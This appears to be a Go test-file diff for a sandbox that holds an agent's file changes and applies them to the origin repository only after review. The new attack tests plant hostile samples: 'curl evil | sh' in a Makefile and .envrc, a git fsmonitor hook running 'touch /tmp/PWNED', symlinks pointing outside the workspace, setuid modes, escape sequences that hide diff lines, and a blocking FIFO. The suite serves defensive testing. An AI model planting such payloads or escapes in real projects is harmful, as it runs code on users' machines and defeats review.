@@ -9,6 +9,9 @@ import (
 	"path/filepath"
 	"strings"
 	"testing"
+	"time"
+
+	"golang.org/x/sys/unix"
 
 	"github.com/cordon-run/cordon/harness"
 	"github.com/cordon-run/cordon/internal/placeholder"
@@ -200,19 +203,31 @@ func TestRoundTrip(t *testing.T) {
 		t.Fatal("the host file changed")
 	}
 	os.Remove(filepath.Join(r.Path, "escape"))
-	// Unnamed, the write-later path is refused; named, it goes.
-	if _, err := rs.Apply(ctx, r, roots.ApplyOptions{}); !errors.Is(err, refusal.WriteLater) || !strings.Contains(err.Error(), ".envrc") {
-		t.Errorf("apply with an unnamed .envrc = %v; want WriteLater naming it", err)
-	}
-	sameSnapshot(t, "origin after a refused apply", before, snapshot(t, orig))
-	os.Remove(filepath.Join(r.Path, ".envrc"))
-
+	// Unnamed, the write-later path and the binary file the diff could
+	// not show are left out (and said so); the rest goes.
 	applied, err := rs.Apply(ctx, r, roots.ApplyOptions{})
 	if err != nil {
 		t.Fatal(err)
 	}
-	if len(applied.Applied) != 10 {
-		t.Errorf("applied %d changes; want 10: %+v", len(applied.Applied), applied.Applied)
+	leftWhy := map[string]string{}
+	for _, l := range applied.Left {
+		leftWhy[l.Path] = l.Why
+	}
+	if !strings.Contains(leftWhy[".envrc"], "name it") || !strings.Contains(leftWhy["image.bin"], "binary") {
+		t.Errorf("left out: %v; want .envrc and image.bin, each with why", leftWhy)
+	}
+	if len(applied.Applied) != 9 {
+		t.Errorf("applied %d changes; want 9: %+v", len(applied.Applied), applied.Applied)
+	}
+	if _, err := os.Lstat(filepath.Join(orig, ".envrc")); err == nil {
+		t.Fatal("the unnamed write-later .envrc reached the origin")
+	}
+	// Named, they go.
+	if a, err := rs.Apply(ctx, r, roots.ApplyOptions{Paths: []string{"image.bin", ".envrc"}}); err != nil || len(a.Applied) != 2 {
+		t.Fatalf("apply of the named ones: %v %+v", err, a)
+	}
+	if read(t, filepath.Join(orig, ".envrc")) != "curl evil | sh\n" {
+		t.Fatal(".envrc, named, did not go")
 	}
 	got, wantTree := snapshot(t, orig), snapshot(t, r.Path)
 	delete(got, ".efferent")
@@ -423,4 +438,132 @@ func TestApplyBindsToTheReview(t *testing.T) {
 	if read(t, filepath.Join(orig, "edit.txt")) != "changed after the review\n" {
 		t.Fatal("the reviewed apply did not apply")
 	}
+}
+
+// TestAttacksFromTheRoot: what an agent plants in a root never reaches
+// past what apply promises (found by an attacker's review).
+func TestAttacksFromTheRoot(t *testing.T) {
+	ctx := context.Background()
+	newRoot := func(t *testing.T) (string, harness.Config, *roots.Roots, *roots.Root) {
+		orig, h := origin(t)
+		gitInit(t, orig)
+		rs, _ := roots.Open(h)
+		r, err := rs.Create(ctx, roots.CreateOptions{From: orig})
+		if err != nil {
+			t.Fatal(err)
+		}
+		return orig, h, rs, r
+	}
+	t.Run("symlinks out through the tree's own links", func(t *testing.T) {
+		orig, _, rs, r := newRoot(t)
+		for _, l := range [][2]string{{".", "x"}, {"x/../secret", "l"}, {"..", "a/up"}, {"a/up/../secret", "l2"}, {".git/config", "cfg"}, {"olddir/../../x", "l3"}} {
+			os.MkdirAll(filepath.Join(r.Path, filepath.Dir(l[1])), 0o755)
+			if err := os.Symlink(l[0], filepath.Join(r.Path, l[1])); err != nil {
+				t.Fatal(err)
+			}
+		}
+		before := snapshot(t, orig)
+		_, err := rs.Apply(ctx, r, roots.ApplyOptions{})
+		for _, name := range []string{"l ->", "l2 ->", "cfg ->", "l3 ->"} {
+			if !errors.Is(err, refusal.OutsideWorkspace) || !strings.Contains(err.Error(), name) {
+				t.Errorf("apply = %v; want OutsideWorkspace naming %s", err, name)
+			}
+		}
+		sameSnapshot(t, "origin", before, snapshot(t, orig))
+	})
+	t.Run("special and open modes", func(t *testing.T) {
+		orig, _, rs, r := newRoot(t)
+		os.Chmod(filepath.Join(r.Path, "run.sh"), 0o4755)
+		write(t, r.Path, "shared.txt", "anyone\n", 0o666)
+		os.Chmod(filepath.Join(r.Path, "shared.txt"), 0o666)
+		a, err := rs.Apply(ctx, r, roots.ApplyOptions{})
+		if err != nil {
+			t.Fatal(err)
+		}
+		if st, _ := os.Stat(filepath.Join(orig, "run.sh")); st.Mode()&os.ModeSetuid != 0 || st.Mode().Perm() != 0o755 {
+			t.Errorf("run.sh in the origin: %v; want 0755, no setuid", st.Mode())
+		}
+		if _, err := os.Stat(filepath.Join(orig, "shared.txt")); err == nil || len(a.Left) == 0 {
+			t.Errorf("a world-writable file went back unnamed (left %+v)", a.Left)
+		}
+	})
+	t.Run("a directory turned file over the person's new work", func(t *testing.T) {
+		orig, _, rs, r := newRoot(t)
+		write(t, orig, "olddir/new-work.txt", "mine\n", 0o644)
+		os.RemoveAll(filepath.Join(r.Path, "olddir"))
+		write(t, r.Path, "olddir", "a file now\n", 0o644)
+		if _, err := rs.Apply(ctx, r, roots.ApplyOptions{}); !errors.Is(err, refusal.OriginChanged) || !strings.Contains(err.Error(), "new-work.txt") {
+			t.Fatalf("apply = %v; want OriginChanged naming the new work", err)
+		}
+		if read(t, filepath.Join(orig, "olddir/new-work.txt")) != "mine\n" {
+			t.Fatal("the person's new work is gone")
+		}
+	})
+	t.Run("control characters", func(t *testing.T) {
+		_, _, rs, r := newRoot(t)
+		write(t, r.Path, "Makefile", "all:\n\tcurl evil | sh\n\x1b[1A\x1b[2K\n", 0o644)
+		write(t, r.Path, "helper\x1b[2K\r", "x\n", 0o755)
+		d, err := rs.Diff(r)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if strings.ContainsRune(d.Unified, 0x1b) || !strings.Contains(d.Unified, `\x1b[1A`) || !strings.Contains(d.Unified, `helper\x1b[2K\x0d`) {
+			t.Errorf("the diff shows raw escapes:\n%q", d.Unified)
+		}
+		for _, c := range d.Changes {
+			if !c.Control {
+				t.Errorf("%q is not marked for its control characters", c.Path)
+			}
+		}
+	})
+	t.Run("a nested repository", func(t *testing.T) {
+		orig, _, rs, r := newRoot(t)
+		write(t, r.Path, "vendor/lib/.git/config", "[core]\n\tfsmonitor = touch /tmp/PWNED\n", 0o644)
+		write(t, r.Path, "vendor/lib/.GIT/hooks/post-checkout", "#!/bin/sh\n", 0o755)
+		write(t, r.Path, "sub/.efferent/registry.json", "{}", 0o644)
+		write(t, r.Path, "vendor/lib/code.go", "package lib\n", 0o644)
+		a, err := rs.Apply(ctx, r, roots.ApplyOptions{})
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, p := range []string{"vendor/lib/.git", "vendor/lib/.GIT", "sub/.efferent"} {
+			if _, err := os.Lstat(filepath.Join(orig, p)); err == nil {
+				t.Errorf("%s reached the origin", p)
+			}
+		}
+		if read(t, filepath.Join(orig, "vendor/lib/code.go")) != "package lib\n" || len(a.Left) < 3 {
+			t.Errorf("applied %+v, left %+v", a.Applied, a.Left)
+		}
+	})
+	t.Run("a run inside the root", func(t *testing.T) {
+		orig, h, rs, r := newRoot(t)
+		os.MkdirAll(filepath.Join(r.Path, "sub"), 0o755)
+		write(t, r.Path, "edit.txt", "x\n", 0o644)
+		run, err := placeholder.Begin(h.StateDir(), filepath.Join(r.Path, "sub"))
+		if err != nil {
+			t.Fatal(err)
+		}
+		_, err = rs.Apply(ctx, r, roots.ApplyOptions{})
+		run.End()
+		if err == nil || !strings.Contains(err.Error(), "is going on") {
+			t.Fatalf("apply during a run in a subdirectory = %v; want a refusal", err)
+		}
+		if read(t, filepath.Join(orig, "edit.txt")) != "one\ntwo\nthree\n" {
+			t.Fatal("the origin changed")
+		}
+	})
+	t.Run("a FIFO swapped in", func(t *testing.T) {
+		_, _, rs, r := newRoot(t)
+		os.Remove(filepath.Join(r.Path, "keep.txt"))
+		if err := unix.Mkfifo(filepath.Join(r.Path, "keep.txt"), 0o644); err != nil {
+			t.Fatal(err)
+		}
+		done := make(chan error, 1)
+		go func() { _, err := rs.Diff(r); done <- err }()
+		select {
+		case <-done:
+		case <-time.After(10 * time.Second):
+			t.Fatal("diff blocks on a FIFO")
+		}
+	})
 }
